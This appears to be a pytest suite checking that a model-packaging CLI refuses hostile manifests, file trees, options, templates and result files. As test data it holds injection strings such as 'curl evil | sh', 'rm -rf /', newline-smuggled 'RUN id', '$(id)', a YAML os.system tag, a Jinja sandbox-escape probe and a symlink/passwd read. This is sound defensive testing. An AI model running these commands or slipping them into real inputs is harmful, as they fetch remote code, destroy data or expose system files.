"""Adversarial inputs and options on the package path (detect -> repository -> dockerfile ->
package): each is refused with one message naming the problem, the documented exit code, no
traceback, and nothing written -- or, for the user's own files, nothing changed.

None of these needs a Docker engine: every check runs before the build.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from models import PYTHON_CONFIG, PYTHON_MODEL, placeholder, write_tree

from packager.basechoice import LOCAL_CPU_IMAGE as LOCAL_BASE
from packager.cli import main

Files = dict[str, "str | bytes | None"]


def _py(**extra: str | bytes | None) -> Files:
    files: Files = {"model.py": PYTHON_MODEL, "config.pbtxt": PYTHON_CONFIG.format(name="model")}
    files.update(extra)
    return files


def _manifest(text: str) -> Files:
    return _py(**{"odahuflow.model.yaml": text})


def _fingerprint(root: Path) -> dict[str, str]:
    """Every path under root with its kind and content digest: 'unchanged' means equal."""
    out: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(os.fsencode(root)):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            rel = os.fsdecode(os.path.relpath(p, os.fsencode(root)))
            if os.path.islink(p):
                out[rel] = "link:" + os.fsdecode(os.readlink(p))
            elif os.path.isdir(p):
                out[rel] = "dir"
            else:
                with open(p, "rb") as fh:
                    out[rel] = hashlib.sha256(fh.read()).hexdigest()
    return out


def _refused(argv: list[str], capsys: pytest.CaptureFixture[str], code: int = 2) -> str:
    got = main(argv)
    err = capsys.readouterr().err
    assert got == code, err
    assert err.startswith("error: "), err
    assert "Traceback" not in err and "internal error" not in err, err
    assert "fix:" in err, err
    assert len(err) < 2500, f"message not bounded ({len(err)} characters)"
    return err


# --- hostile manifests ------------------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("abcdefgh", "bcdefghi", strict=True)) + "name: *i\n"

MANIFESTS: dict[str, tuple[str, list[str]]] = {
    "alias-bomb": (BOMB, ["odahuflow.model.yaml", "aliases"]),
    "deep-nesting": ("name: " + "[" * 20000 + "]" * 20000 + "\n", ["odahuflow.model.yaml",
                                                                    "nesting deeper"]),
    "deep-mapping": ("name:\n" + "".join(" " * i + "a:\n" for i in range(1, 200)),
                     ["nesting deeper"]),
    "version-5000-digits": ("version: " + "7" * 5000 + "\n", ["'version'", "characters)"]),
    "version-beyond-int64": ("version: 9223372036854775808\n", ["'version'", "64-bit"]),
    "version-leading-zero": ("version: 010\n", ["'version'", "'010'", "leading zeros"]),
    "version-sexagesimal": ("version: 1:30\n", ["'version'", "'1:30'"]),
    "version-hex": ("version: 0x1F\n", ["'version'", "'0x1F'"]),
    "version-bool": ("version: true\n", ["'version'", "True"]),
    "version-list": ("version: [1, 2]\n", ["'version'", "[1, 2]"]),
    "duplicate-key": ("name: a\nname: b\n", ["'name'", "appears twice"]),
    "python-tag": ("name: !!python/object/apply:os.system ['id']\n", ["not valid YAML"]),
    "name-300-characters": ("name: " + "a" * 300 + "\n", ["'name'", "300 characters"]),
    "name-is-a-date": ("name: 2024-01-01\nversion: 1\n", []),  # YAML 1.2: a plain string
}


@pytest.mark.parametrize("case", sorted(MANIFESTS))
def test_hostile_manifest(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text, fragments = MANIFESTS[case]
    root = write_tree(tmp_path / "model", _manifest(text))
    out = tmp_path / "out"
    if not fragments:  # accepted, and read as the text it is (YAML 1.1 made it a date)
        (root / "config.pbtxt").write_text(PYTHON_CONFIG.format(name="2024-01-01"))
        assert main(["detect", str(root), "--output", str(out)]) == 0, capsys.readouterr().err
        assert json.loads((out / "detect.json").read_text())["model"]["name"] == "2024-01-01"
        return
    err = _refused(["detect", str(root), "--output", str(out)], capsys)
    for fragment in fragments:
        assert fragment in err, f"{fragment!r} not in {err}"
    assert not out.exists()


def test_yaml_12_scalars_are_read_as_written(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                            ) -> None:
    """`on`, `no`, `y` are strings in YAML 1.2 (YAML 1.1 made them booleans)."""
    for word in ("on", "no", "y"):
        root = write_tree(tmp_path / word, {
            "model.py": PYTHON_MODEL, "config.pbtxt": PYTHON_CONFIG.format(name=word),
            "odahuflow.model.yaml": f"name: {word}\nversion: 3\n"})
        out = tmp_path / f"out-{word}"
        assert main(["detect", str(root), "--output", str(out)]) == 0, capsys.readouterr().err
        doc = json.loads((out / "detect.json").read_text())
        assert doc["model"] == {"name": word, "version": 3, "manifest": "odahuflow.model.yaml"}


# --- hostile trees --------------------------------------------------------------------------


def _non_utf8_name(root: Path) -> None:
    with open(os.path.join(os.fsencode(root), b"weights-\xff.bin"), "wb") as fh:
        fh.write(b"x")


def _newline_name(root: Path) -> None:
    (root / "evil\nRUN id").write_text("x")


def _deep(root: Path) -> None:
    fd = os.open(root, os.O_RDONLY)
    for _ in range(1100):  # os.makedirs recurses; walk down by directory descriptors instead
        os.mkdir("d", dir_fd=fd)
        nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    os.close(fd)


def _remove_deep(root: Path) -> None:
    """shutil.rmtree recurses (Python 3.11) and pytest's tmp cleanup would die on 1 100 levels:
    remove the chain bottom-up through directory descriptors."""
    fds = [os.open(root, os.O_RDONLY)]
    while True:
        try:
            fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
        except FileNotFoundError:
            break
    os.close(fds.pop())
    while fds:
        parent = fds.pop()
        os.rmdir("d", dir_fd=parent)
        os.close(parent)


def _loop(root: Path) -> None:
    (root / "a").symlink_to(root / "b")
    (root / "b").symlink_to(root / "a")


def _self_loop(root: Path) -> None:
    (root / "me").symlink_to(root / "me")


def _broken(root: Path) -> None:
    (root / "gone").symlink_to(root / "nowhere")


def _link_via_parent(root: Path) -> None:
    (root.parent / "secret").write_text("not yours")
    (root / "sub").mkdir()
    (root / "sub" / "s").symlink_to("../../secret")


def _socket(root: Path) -> None:
    import socket

    s = socket.socket(socket.AF_UNIX)
    s.bind(str(root / "sock"))
    s.close()


TREES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "non-utf8-file-name": (_non_utf8_name, ["not valid UTF-8", "\\xff"]),
    "newline-in-file-name": (_newline_name, ["control character", "evil\\nRUN id"]),
    "1100-levels-deep": (_deep, ["nested more than"]),
    "symlink-loop": (_loop, ["symlink loop"]),
    "symlink-to-itself": (_self_loop, ["'me'", "symlink loop"]),
    "broken-symlink": (_broken, ["'gone'", "broken symlink"]),
    "symlink-out-through-parent": (_link_via_parent, ["'sub/s'", "outside the input"]),
    "unix-socket": (_socket, ["'sock'", "socket"]),
}


@pytest.mark.parametrize("case", sorted(TREES))
def test_hostile_tree(case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make, fragments = TREES[case]
    root = write_tree(tmp_path / "model", _py())
    make(root)
    out = tmp_path / "out"
    try:
        err = _refused(["package", str(root), "--output", str(out)], capsys)
        for fragment in fragments:
            assert fragment in err, f"{fragment!r} not in {err}"
        assert not out.exists()
    finally:
        if make is _deep:
            _remove_deep(root)


# --- outputs that would destroy something ----------------------------------------------------


def test_input_inside_output_under_a_phase_name_is_kept(tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    for phase_dir in ("model_repository", "context"):
        root = write_tree(out / phase_dir, _py())
        before = _fingerprint(tmp_path)
        err = _refused(["package", str(root), "--output", str(out)], capsys)
        assert "contains the input directory" in err
        assert _fingerprint(tmp_path) == before


def test_output_that_is_the_input_or_its_parent(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "proj" / "model", _py())
    before = _fingerprint(tmp_path)
    for out in (root, root.parent, tmp_path, root / "sub" / "out"):
        _refused(["repository", str(root), "--output", str(out)], capsys)
    assert _fingerprint(tmp_path) == before


def test_output_through_a_symlink_to_the_input(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    (tmp_path / "alias").symlink_to(root)
    before = _fingerprint(tmp_path)
    _refused(["repository", str(root), "--output", str(tmp_path / "alias" / "out")], capsys)
    assert _fingerprint(tmp_path) == before


def test_foreign_output_directory_is_not_replaced(tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    out = write_tree(tmp_path / "out", {"model_repository/notes.txt": "mine",
                                        "thesis.tex": "years of work"})
    before = _fingerprint(out)
    err = _refused(["repository", str(root), "--output", str(out)], capsys)
    assert "did not create" in err and "--force" in err
    assert _fingerprint(out) == before
    # --force is the user's say-so, for this run only: the directory stays the user's.
    assert main(["repository", str(root), "--output", str(out), "--force"]) == 0
    assert (out / "thesis.tex").read_text() == "years of work"  # only phase outputs replaced
    assert not (out / ".triton-packager-owned").exists()
    capsys.readouterr()
    _refused(["repository", str(root), "--output", str(out)], capsys)
    # ... so a later setup or train cannot take it for the packager's and replace it whole.
    _refused(["setup", str(root / "model.py"), "--output", str(out)], capsys)
    assert (out / "thesis.tex").read_text() == "years of work"


def test_foreign_folder_under_a_phase_name_in_our_output(tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    out = tmp_path / "out"
    assert main(["detect", str(root), "--output", str(out)]) == 0
    capsys.readouterr()
    write_tree(out / "context", {"keep.txt": "mine"})  # the phase never ran: not ours
    err = _refused(["dockerfile", str(root), "--output", str(out)], capsys)
    assert "context" in err
    assert (out / "context" / "keep.txt").read_text() == "mine"


@pytest.mark.parametrize("kind", ["file", "symlink"])
def test_output_that_is_not_a_directory(kind: str, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    out = tmp_path / "out"
    if kind == "file":
        out.write_text("a file of the user's")
    else:
        (tmp_path / "elsewhere").mkdir()
        out.symlink_to(tmp_path / "elsewhere")
    before = _fingerprint(tmp_path)
    _refused(["package", str(root), "--output", str(out)], capsys)
    assert _fingerprint(tmp_path) == before


# --- options: every check before the first write ---------------------------------------------

OPTIONS: dict[str, tuple[list[str], list[str]]] = {
    "tag-upper-case": (["--tag", "Team/Model:1"], ["--tag", "not a valid"]),
    "tag-semicolon": (["--tag", "model:1;rm -rf /"], ["--tag"]),
    "tag-300-characters": (["--tag", "m" * 300 + ":1"], ["--tag", "characters)"]),
    "tag-with-digest": (["--tag", "model@sha256:" + "a" * 64], ["digest", "@sha256"]),
    "tag-with-newline": (["--tag", "model:1\nRUN id"], ["--tag"]),
    "image-name-multiplies": (["--image-name", "{{ Name * 1000000000 }}"], ["template syntax"]),
    "image-name-unknown": (["--image-name", "{{ Secret }}:1"], ["Secret", "not a known name"]),
    "image-name-statement": (["--image-name", "{% for x in y %}{% endfor %}"], ["template syntax"]),
    "conda-channel-injection": (["--conda-channel", "conda-forge; curl evil | sh #"],
                                ["--conda-channel", "not a channel"]),
    "conda-channel-fragment": (["--conda-channel", "https://h/c#x"], ["--conda-channel"]),
    "pip-index-newline": (["--pip-index-url", "https://h/simple\nRUN id"], ["--pip-index-url"]),
    "micromamba-url-quote": (["--micromamba-url", 'https://h/m" && id "'], ["--micromamba-url"]),
    "python-version-junk": (["--python-version", "3.11; id"], ["--python-version"]),
    "label-value-dollar": (["--label", "team=$(id)"], ["$(id)", "not allowed"]),
    "label-key-upper": (["--label", "Team=ml"], ["--label key", "'Team'"]),
    "label-no-equals": (["--label", "team"], ["KEY=VALUE"]),
    "base-image-newline": (["--base-image", "ubuntu\nRUN id"], ["--base-image"]),
    "platform-junk": (["--platform", "linux/amd64;id"], ["--platform"]),
    "healthcheck-unknown": (["--healthcheck", "wget"], []),  # argparse's own choices
    "ca-bundle-missing": (["--ca-bundle", "/nonexistent/ca.pem"], ["does not exist"]),
    "template-dir-missing": (["--template-dir", "/nonexistent"], ["is not a directory"]),
}


@pytest.mark.parametrize("case", sorted(OPTIONS))
def test_bad_option_writes_nothing(case: str, tmp_path: Path,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    option, fragments = OPTIONS[case]
    root = write_tree(tmp_path / "model", _py())
    out = tmp_path / "out"
    argv = ["package", str(root), "--output", str(out), *option]
    if not fragments:
        with pytest.raises(SystemExit) as exc:
            main(argv)
        assert exc.value.code == 2
        assert not out.exists()
        return
    err = _refused(argv, capsys)
    for fragment in fragments:
        assert fragment in err, f"{fragment!r} not in {err}"
    assert not out.exists(), "an option was checked after the first write"


@pytest.mark.parametrize("template,fragments", [
    ("{% extends 'Dockerfile.j2' %}{% block backend %}{% if %}{% endblock %}",
     ["Dockerfile.j2", "backends/python.j2:1", "cannot be rendered"]),
    ("{% extends 'Dockerfile.j2' %}{% block backend %}{{ no_such_name }}{% endblock %}",
     ["no_such_name", "undefined"]),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", ["cannot be rendered"]),
    ("{% for i in range(10**9) %}{% endfor %}", ["cannot be rendered"]),
])
def test_broken_user_template(template: str, fragments: list[str], tmp_path: Path,
                              capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    tdir = write_tree(tmp_path / "templates", {"backends/python.j2": template})
    out = tmp_path / "out"
    err = _refused(["dockerfile", str(root), "--output", str(out), "--template-dir", str(tdir)],
                   capsys)
    for fragment in fragments[1:]:
        assert fragment in err, f"{fragment!r} not in {err}"
    assert not out.exists()


# --- accepted today, unservable tomorrow: refused now ----------------------------------------

SERVABLE: dict[str, tuple[Files, list[str], list[str]]] = {
    "version-policy-names-missing-version": (
        _py(**{"config.pbtxt": PYTHON_CONFIG.format(name="model")
               + "version_policy: { specific: { versions: [1, 2] } }\n"}),
        ["version_policy", "2", "only version 1"], []),
    "default-model-filename-path": (
        {"model.onnx": placeholder("onnx"),
         "config.pbtxt": 'platform: "onnxruntime_onnx"\ndefault_model_filename: "../x.onnx"\n'},
        ["default_model_filename", "'../x.onnx'", "not a path"], []),
    "default-model-filename-missing": (
        {"model.onnx": placeholder("onnx"),
         "config.pbtxt": 'platform: "onnxruntime_onnx"\ndefault_model_filename: "other.onnx"\n'},
        ["default_model_filename", "'other.onnx'", "not in the packaged"], []),
    "requirements-editable-outside": (_py(**{"requirements.txt": "numpy\n-e ../x\n"}),
                                      ["requirements.txt:2", "-e ../x"], []),
    "requirements-file-url": (_py(**{"requirements.txt": "pkg @ file:///etc/passwd\n"}),
                              ["requirements.txt:1", "local file"], []),
    "requirements-index-with-credentials": (
        _py(**{"requirements.txt": "--extra-index-url https://bob:hunter2@pypi.corp/simple\n"}),
        ["requirements.txt:1", "credentials", "--pip-index-url"], ["hunter2"]),
    "requirements-url-with-token": (
        _py(**{"requirements.txt": "pkg @ https://ghp_token123@host/pkg.whl\n"}),
        ["credentials"], ["ghp_token123"]),
    "requirements-other-file": (_py(**{"requirements.txt": "-r ../../etc/reqs.txt\n"}),
                                ["another"], []),
    "requirements-env-variable": (_py(**{"requirements.txt": "pkg==${VERSION}\n"}),
                                  ["environment variable"], []),
    "conda-channel-prefixed-python": (
        _py(**{"conda.yaml": "dependencies:\n  - conda-forge::python=2.7\n"}),
        ["conda.yaml", "python 2.7", "3.11"], []),
    "conda-alias-bomb": (_py(**{"conda.yaml": BOMB.replace("name:", "dependencies:")}),
                         ["conda.yaml", "aliases"], []),
    "conda-pip-editable": (
        _py(**{"conda.yaml": "dependencies:\n  - numpy\n  - pip:\n    - -e ../x\n"}),
        ["conda.yaml (pip:)", "editable"], []),
}


@pytest.mark.parametrize("case", sorted(SERVABLE))
def test_unservable_input_is_refused_before_writing(case: str, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    files, fragments, secrets = SERVABLE[case]
    root = write_tree(tmp_path / "model", files)
    out = tmp_path / "out"
    err = _refused(["dockerfile", str(root), "--output", str(out), "--base-image", LOCAL_BASE],
                   capsys)
    for fragment in fragments:
        assert fragment in err, f"{fragment!r} not in {err}"
    for secret in secrets:
        assert secret not in err, "a credential was echoed"
    assert not out.exists()


# --- result.json written by someone else -----------------------------------------------------

RESULTS: dict[str, str] = {
    "a-list": "[1, 2]",
    "not-json": "{image: x",
    "image-a-number": '{"image": 5}',
    "no-image": '{"models": "m", "model.m.versions": "1"}',
    "nested-object": '{"image": "m:1", "model": {"name": "m", "version": 1}}',
    "name-escapes-output": '{"image": "m:1", "models": "../../etc", '
                           '"model.../../etc.versions": "1"}',
    "second-name-escapes": '{"image": "m:1", "models": "m,../x", "model.m.versions": "1", '
                           '"model.../x.versions": "1"}',
    "image-injection": '{"image": "m:1 --privileged", "models": "m", "model.m.versions": "1"}',
    "version-huge": '{"image": "m:1", "models": "m", "model.m.versions": "' + "9" * 5000 + '"}',
    "not-utf8": "\udcff",
}


@pytest.mark.parametrize("command", ["verify", "push"])
@pytest.mark.parametrize("case", sorted(RESULTS))
def test_foreign_result_json(command: str, case: str, tmp_path: Path,
                             capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    out.mkdir()
    text = RESULTS[case]
    (out / "result.json").write_bytes(text.encode("utf-8", "surrogateescape"))
    before = _fingerprint(tmp_path)
    err = _refused([command, "--output", str(out)], capsys)
    assert "result.json" in err
    assert _fingerprint(tmp_path) == before


@pytest.mark.parametrize("swap", ["file-for-link", "dir-for-link"])
def test_a_file_swapped_for_a_link_after_the_scan_is_not_followed(
        swap: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """TOCTOU: between reading the input and placing its files, a file (or the directory
    holding it) becomes a symlink out of the input. The placement opens each path component
    without following links, so the outside file never reaches the output."""
    from packager.analysis import Options
    from packager.errors import InputError
    from packager.executor import phases
    from packager.executor.phases import Workspace

    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "data.bin").write_text("outside\n")
    root = write_tree(tmp_path / "model", _py(**{"sub/data.bin": "inside\n"}))
    real_analyze = phases.analyze_package

    def analyze_then_swap(trees, *args, **kwargs):  # type: ignore[no-untyped-def]
        analysis = real_analyze(trees, *args, **kwargs)
        if swap == "file-for-link":
            (root / "sub/data.bin").unlink()
            (root / "sub/data.bin").symlink_to(secret / "data.bin")
        else:
            os.rename(root / "sub", tmp_path / "moved")
            (root / "sub").symlink_to(secret)
        return analysis

    monkeypatch.setattr(phases, "analyze_package", analyze_then_swap)
    out = tmp_path / "out"
    with pytest.raises(InputError, match=r"outside the input directory|changed while"):
        Workspace(root, out, Options()).run("repository")
    placed = [p for p in out.rglob("data.bin")] if out.exists() else []
    assert all(p.read_text() != "outside\n" for p in placed)
    assert not (out / "model_repository").exists()


@pytest.mark.parametrize("template", [
    '{{ "x" * 4000000000 }}',
    "{{ [1] * 10**9 }}",
    "{{ 10 ** 100000000 }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{{ 'y' * 1000 }}{% endfor %}",
])
def test_a_user_template_cannot_run_away(template: str, tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    """Huge repetition, huge numbers, endless loops and endless output in a --template-dir
    template: refused within the render limits (10 s, 1 MiB), exit 2, nothing written."""
    import time

    root = write_tree(tmp_path / "model", _py())
    tdir = write_tree(tmp_path / "templates", {"backends/python.j2": template})
    out = tmp_path / "out"
    started = time.monotonic()
    err = _refused(["dockerfile", str(root), "--output", str(out), "--template-dir", str(tdir)],
                   capsys)
    assert time.monotonic() - started < 30
    assert "cannot be rendered" in err
    assert not out.exists()


def test_rendering_leaves_the_callers_timer_alone(tmp_path: Path) -> None:
    """The render budget is counted where the template spends it, not a SIGALRM: an
    ITIMER_REAL the caller set is neither cancelled nor replaced by rendering a Dockerfile."""
    import signal

    fired: list[int] = []
    previous = signal.signal(signal.SIGALRM, lambda signum, _frame: fired.append(signum))
    signal.setitimer(signal.ITIMER_REAL, 1000.0)
    try:
        root = write_tree(tmp_path / "model", _py())
        assert main(["dockerfile", str(root), "--output", str(tmp_path / "out")]) == 0
        remaining, _ = signal.getitimer(signal.ITIMER_REAL)
        assert 900.0 < remaining <= 1000.0
        assert signal.getsignal(signal.SIGALRM) is not previous
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    assert not fired


# --- found by the adversarial review ---------------------------------------------------------

def _result_json(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    (out / "result.json").write_text(json.dumps(
        {"image": "model-1:abc", "models": "model", "model.model.versions": "1",
         "model.model.backend": "python"}))


@pytest.mark.parametrize("argv,fragments", [
    (["verify", "--user", "1000\n"], ["--user", "uid[:gid]"]),
    (["verify", "--user", "-1"], ["--user"]),
    (["push", "--registry", "myreg"], ["no dot and no port", "Docker Hub"]),
    (["push", "--registry", "127.0.0.1:99999"], ["port 99999"]),
    (["push", "--registry", "user:pw@registry.example.com"], ["***@"]),
])
def test_verify_and_push_options_are_checked_first(argv: list[str], fragments: list[str],
                                                   tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    _result_json(out)
    before = _fingerprint(tmp_path)
    err = _refused([*argv, "--output", str(out)], capsys)
    for fragment in fragments:
        assert fragment in err, f"{fragment!r} not in {err}"
    assert "pw@" not in err
    assert _fingerprint(tmp_path) == before


@pytest.mark.parametrize("option", [["--http-proxy", "http://proxy:3128\nRUN id"],
                                    ["--https-proxy", "proxy:3128 evil"],
                                    ["--no-proxy", "localhost;id"]])
def test_proxies_are_checked(option: list[str], tmp_path: Path,
                             capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    out = tmp_path / "out"
    err = _refused(["dockerfile", str(root), "--output", str(out), *option], capsys)
    assert option[0] in err
    assert not out.exists()


def test_credentials_in_refused_options_are_masked(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    for option in ("--pip-index-url", "--micromamba-url", "--conda-channel"):
        err = _refused(["dockerfile", str(root), "--output", str(tmp_path / "out"), option,
                        "https://alice:S3CRET@pypi.example.com/simple?x=1"], capsys)
        assert "S3CRET" not in err and "***@pypi.example.com" in err, err


def test_control_characters_never_reach_the_terminal(tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py(**{
        "config.pbtxt": 'name: "model"\nbackend: "python"\nmax_batch_size: \x1b[2J\n'}))
    err = _refused(["detect", str(root), "--output", str(tmp_path / "out")], capsys)
    assert "\x1b" not in err and "\\x1b" in err


def test_huge_ca_bundle_is_refused_unread(tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _py())
    big = tmp_path / "big.crt"
    with big.open("wb") as fh:  # sparse: 200 GB that take no disk
        fh.truncate(200 << 30)
    err = _refused(["dockerfile", str(root), "--output", str(tmp_path / "out"),
                    "--ca-bundle", str(big)], capsys)
    assert "a CA bundle is at most" in err


def test_plus_sign_is_not_a_canonical_version(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    root = write_tree(tmp_path / "model", _manifest("version: +5\n"))
    err = _refused(["detect", str(root), "--output", str(tmp_path / "out")], capsys)
    assert "'+5'" in err


def test_existing_archive_is_not_overwritten(tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    from conftest import EXAMPLES

    backup = tmp_path / "backup.tar.gz"
    backup.write_bytes(b"my backup")
    err = _refused(["train", str(EXAMPLES / "python"), "--target", str(tmp_path / "t"),
                    "--archive", str(backup)], capsys)
    assert "would be overwritten" in err
    assert backup.read_bytes() == b"my backup" and not (tmp_path / "t").exists()
